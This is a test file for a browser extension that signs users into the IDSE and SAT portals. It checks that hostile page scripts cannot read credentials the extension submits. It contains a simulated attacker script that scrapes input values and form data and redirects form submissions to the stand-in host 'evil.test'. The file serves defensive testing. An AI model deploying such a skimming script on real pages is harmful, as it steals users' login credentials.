/** What records a page and its forms does not record what is sent natively. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { closePage } from '../../scripts/close-page.ts';
import type { Stage } from '../../scripts/stage.ts';
import {
  countReceived,
  idsePage,
  setNativeStage,
  satHosts,
  satPage,
  type Native,
} from './native.ts';

let stage: Stage;
let page: Page;
let native: Native;
let credentialId: string;

beforeAll(async () => {
  ({ stage, native, credentialId } = await setNativeStage());
});

afterAll(() => stage.close());

beforeEach(async () => {
  page = await stage.browser.context.newPage();
  return () => closePage(page);
});

/**
 * The first script of the page: every input that comes into it, what its forms send, and what the
 * browser shows of its navigations; and what can be changed then.
 */
const listen = `{
  window.heard = [];
  window.count = 0;
  for (const target of [window, document]) {
    target.addEventListener('formdata', ({ target: form, formData }) => {
      heard.push(...formData.values());
      form.action = 'https://evil.test/robo';
    }, true);
  }
  const hear = ({ formData }) => {
    count += 1;
    if (formData) heard.push(...formData.values());
  };
  navigation.onnavigate = hear;
  navigation.addEventListener('navigate', hear, true);
  new MutationObserver(() => {
    for (const input of document.querySelectorAll('input')) heard.push(input.value);
  }).observe(document, { subtree: true, childList: true, attributes: true });
}`;

/** The page as it is, but for its first script. Where a form is sent to it stays, to be looked at. */
async function openListening(url: string): Promise<void> {
  await page.goto(url);
  const { origin } = new URL(url);
  const body = `<!doctype html><script>${listen}</script>${await page.content()}`;
  await page.route(`${origin}/**`, (route) => {
    const request = route.request();
    if (!request.isNavigationRequest()) return route.continue();
    return request.method() === 'POST'
      ? route.fulfill({ status: 204 })
      : route.fulfill({ contentType: 'text/html', body });
  });
  await page.goto(url);
}

const password = 'la contraseña de idse';
const account = { user: 'usuario', password };

test.each([
  ['IDSE', idsePage, /AccesoIDSE\.idse$/, ['pkcs7', 'idUsuario', 'password']],
  ['the SAT', satPage(satHosts[0]), /nidp\/app\/login/, ['token']],
])('at %s', async (_name, url, to, names) => {
  await openListening(url);
  const plan = await native.planned(page);
  const sent = page.waitForRequest(
    (request) => request.method() === 'POST' && request.isNavigationRequest(),
  );
  expect(await native.signIn({ plan, credentialId, account })).toBeUndefined();
  const request = await sent;
  expect(request.url()).toMatch(to);
  const body = new URLSearchParams(request.postData() ?? '');
  const heard = await page.evaluate<string[]>('heard');
  for (const name of names) {
    expect(body.get(name)).toBeTruthy();
    expect(heard.includes(body.get(name) ?? ''), name).toBe(false);
  }
});

test('a page of IDSE where we could not listen first gets nothing', async () => {
  await page.goto(idsePage);
  const plan = await native.planned(page);
  // As in a page that was open when the extension was installed.
  const worker = await stage.browser.worker();
  await worker.evaluate(async (tabId) => {
    const func = (): boolean => Reflect.deleteProperty(globalThis, Symbol.for('firma-lista.hush'));
    await chrome.scripting.executeScript({ target: { tabId }, func });
  }, plan.tabId);
  expect((await native.plan(page)).code).toBe('page_too_old');
  const before = countReceived(stage);
  expect(await native.signIn({ plan, credentialId, account })).toBe('page_too_old');
  expect(countReceived(stage)).toBe(before);
});

test('what the page sends itself, and its other navigations, it hears as ever', async () => {
  await openListening(idsePage);
  await native.signIn({ plan: await native.planned(page), credentialId, account });
  await page.evaluate(`{
    location.hash = 'ancla';
    document.body.insertAdjacentHTML('beforeend',
      '<form id=suya method=post action=AccesoIDSE.idse><input name=suyo value=suyo></form>');
    suya.submit();
  }`);
  await expect.poll(() => page.evaluate('heard.includes("suyo")')).toBe(true);
  expect(await page.evaluate('count')).toBeGreaterThanOrEqual(3);
});
